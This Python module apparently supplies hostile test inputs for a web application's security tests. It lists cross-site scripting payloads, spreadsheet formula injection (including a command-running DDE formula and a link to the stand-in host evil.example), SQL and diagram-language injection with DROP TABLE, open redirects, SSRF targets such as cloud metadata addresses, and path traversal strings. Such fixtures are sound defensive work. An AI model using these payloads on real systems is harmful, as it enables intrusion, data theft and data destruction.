"""Hostile texts, addresses and paths, by what they are after."""

EVIL = "evil.example"
XSS = (
    "<script>xss0()</script>", "'\"><script>xss0()</script>", "<img src=x onerror=xss0()>", "<svg/onload=xss0()>",
    "\"autofocus onfocus=xss0() x=\"", "' onmouseover='xss0()", "javascript:xss0()", "JaVaScRiPt:xss0()",
    "data:text/html,<script>xss0()</script>", "</textarea><script>xss0()</script>", "</title><script>xss0()</script>",
    "<!--><script>xss0()</script>-->", "]]><script>xss0()</script>", "<iframe srcdoc='<script>xss0()</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=xss0()>",
    "{{constructor.constructor('xss0()')()}}",
    "{% load static %}{{ request.user.password }}", "<a href=javascript:xss0()>x</a>", "[x](javascript:xss0())",
    "![x](x\"onerror=\"xss0())", "<details open ontoggle=xss0()>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=javascript:xss0()'>", "<form action=//evil.example><button>",
    "\u2028<script>xss0()</script>", "&lt;script&gt;xss0()&lt;/script&gt;", "<a hx-get=//evil.example hx-trigger=load>",
    "<b hx-on:click=xss0()>", "<object data=javascript:xss0()>", "<foreignObject><body onload=xss0()>",
)  # fmt: skip
FORMULAS = (
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("//evil.example")',
)
LANGUAGES = {
    "plantuml": ('x"\n!include /etc/passwd\n"', 'x"\n@enduml\n@startuml\n"', "x\n!define A B"),
    "mermaid": ('x"]\n    click a "javascript:xss0()"\n a["', "x\n%%{init: {'securityLevel': 'loose'}}%%", 'x" }\n'),
    "dot": ('x" URL="javascript:xss0()', 'x"]; graph [URL="javascript:xss0()"', "<<b>x</b>>",
            'x\\" , href="javascript:1'),
    "dbml": ("x'''\nTable evil {\n id int\n}\n'''", 'x" {\n}\nTable "evil', "x'\n}\nTable evil {\n"),
    "postgres": ('x"; DROP TABLE evil; --', "x'; DROP TABLE evil; --", "x$$; DROP TABLE evil; $$",
    "*/ DROP TABLE evil; /*"),
    "mysql": ("x`; DROP TABLE evil; -- ", "x\\'; DROP TABLE evil; -- ", "x*/; DROP TABLE evil; /*"),
    "sqlite": ('x"; DROP TABLE evil; --', "x]; DROP TABLE evil; --"),
}  # fmt: skip
REDIRECTS = (
    "//evil.example", "///evil.example", "https://evil.example", "http:evil.example", "/\\evil.example",
    "\\/evil.example",
    "/\t/evil.example", "\t//evil.example", "javascript:xss0()", "data:text/html,x", "https:/evil.example",
    "//evil.example\\@x",
    "//localhost@evil.example", "http://localhost.evil.example/", "/\r\nLocation: //evil.example", "%2f%2fevil.example",
)  # fmt: skip
PLACES = (
    "postgresql://a@127.0.0.1/x", "postgresql://a@localhost/x", "postgresql://a@[::1]/x", "postgresql://a@0.0.0.0/x",
    "postgresql://a@2130706433/x", "postgresql://a@0x7f000001/x", "postgresql://a@127.1/x",
    "postgresql://a@0177.0.0.1/x",
    "postgresql://a@[::ffff:127.0.0.1]/x", "postgresql://a@[::ffff:a9fe:a9fe]/x", "postgresql://a@169.254.169.254/x",
    "postgresql://a@10.0.0.1/x", "postgresql://a@192.168.0.1/x", "postgresql://a@172.16.0.1/x",
    "postgresql://a@[fd00::1]/x",
    "postgresql://a@[fe80::1]/x", "postgresql://a@100.64.0.1/x", "postgresql://a@[64:ff9b::7f00:1]/x",
    "mysql://a@127.0.0.1/x",
    "mysql://a@169.254.170.2/x", "postgresql:///x?host=/var/run/postgresql", "postgresql://a@/x?hostaddr=127.0.0.1",
    "postgresql://a@8.8.8.8,127.0.0.1/x", "postgresql://a@8.8.8.8/x?host=127.0.0.1",
    "postgresql://a@8.8.8.8/x?service=local",
    "postgresql://a@8.8.8.8/x?passfile=/etc/passwd", "postgresql://a@8.8.8.8/x?sslrootcert=/etc/passwd",
    "mysql://a@8.8.8.8/x?unix_socket=/run/mysqld/mysqld.sock", "sqlite:////etc/passwd", "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_x", "http://169.254.169.254/latest/meta-data/", "ldap://127.0.0.1/",
    "jdbc:postgresql://127.0.0.1/x",
)  # fmt: skip
HOSTS = (
    "evil.example",
    "localhost:80@evil.example",
    "localhost.evil.example",
    "evil.example:8000",
    "a b",
    "localhost/evil",
)
PATHS = ("../../etc/passwd", "..\\..\\windows\\x", "/etc/passwd", "C:\\x", "a/../../b", "con", "~/.ssh/x")
